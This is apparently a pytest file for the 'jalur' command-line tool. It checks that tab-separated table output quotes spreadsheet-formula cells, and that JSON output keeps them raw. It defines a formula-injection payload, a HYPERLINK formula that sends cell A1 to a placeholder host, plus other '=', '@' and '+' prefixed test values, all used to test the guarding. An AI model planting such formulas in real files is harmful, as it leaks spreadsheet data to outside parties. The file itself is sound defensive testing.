"""A table piped to a file (`jalur accounts show ACC5 > acc.tsv`) is opened in a spreadsheet as
the CSV files jalur writes are: each cell is guarded as those are (`jalur.cells`). A holder's
name `=HYPERLINK(…)` from a payment file reached the TSV raw and opened as a formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from rich.table import Table
from rich.text import Text
from typer.testing import CliRunner

from jalur.cells import unguard_cell
from jalur.cli import app
from jalur.clikit import plain_table

PAYLOAD = '=HYPERLINK("http://x/?"&A1,"open")'


def test_a_piped_table_guards_each_cell_and_keeps_numbers() -> None:
    table = Table("name", "amount", "note")
    table.add_row(PAYLOAD, "-12.50", "@SUM(1+1)")
    table.add_row("+62 21 555 cmd", "7", "\t=1+1")
    lines = plain_table(table).splitlines()
    assert lines[1].split("\t") == ["'" + PAYLOAD, "-12.50", "'@SUM(1+1)"]
    assert lines[2].split("\t") == ["'+62 21 555 cmd", "7", "' =1+1"]


def test_accounts_show_piped_guards_a_hostile_holder_name(tmp_path: Path) -> None:
    payments = tmp_path / "pay.csv"
    with payments.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([
            ["tx_id", "timestamp", "orig_account", "orig_name", "bene_account", "bene_name",
             "amount", "currency"],
            ["T1", "2025-06-01T10:00:00Z", "ACC5", PAYLOAD, "ACC6", "Dua", "5000", "IDR"],
        ])  # fmt: skip
    home = ["--home", str(tmp_path / "home")]
    runner = CliRunner()
    loaded = runner.invoke(app, [*home, "tx", "load", str(payments), "--format", "csv"])
    assert loaded.exit_code == 0, loaded.output
    shown = runner.invoke(app, [*home, "accounts", "show", "ACC6"])
    assert shown.exit_code == 0, shown.output
    cells = [cell for line in shown.stdout.splitlines() for cell in line.split("\t")]
    assert "'" + PAYLOAD in cells, shown.stdout
    assert PAYLOAD not in cells and not any(c.startswith("=") for c in cells), shown.stdout
    assert unguard_cell("'" + PAYLOAD) == PAYLOAD  # a reader of the file takes it back
    data = runner.invoke(app, [*home, "accounts", "show", "ACC6", "--json"])
    assert data.exit_code == 0, data.output  # `--json` is data for a script, not a sheet:
    names = [p["orig_name"] for p in json.loads(data.stdout)["payments"]["recent"]]
    assert names == [PAYLOAD]  # no mark added


def test_a_cell_of_several_lines_is_one_field_without_trailing_space() -> None:
    """`lists show | awk -F'\\t' '$4 == "Person 1"'` missed the list: a cell whose second
    line was empty (a list with no topics) ended in a space."""
    table = Table("list", "by schema / topic")
    table.add_row("t", Text.assemble("Person 1", "\n", ("", "dim")))
    table.add_row("u", "Person 2\n\ncrime.terror 1")
    assert plain_table(table).splitlines()[1:] == ["t\tPerson 1", "u\tPerson 2 crime.terror 1"]
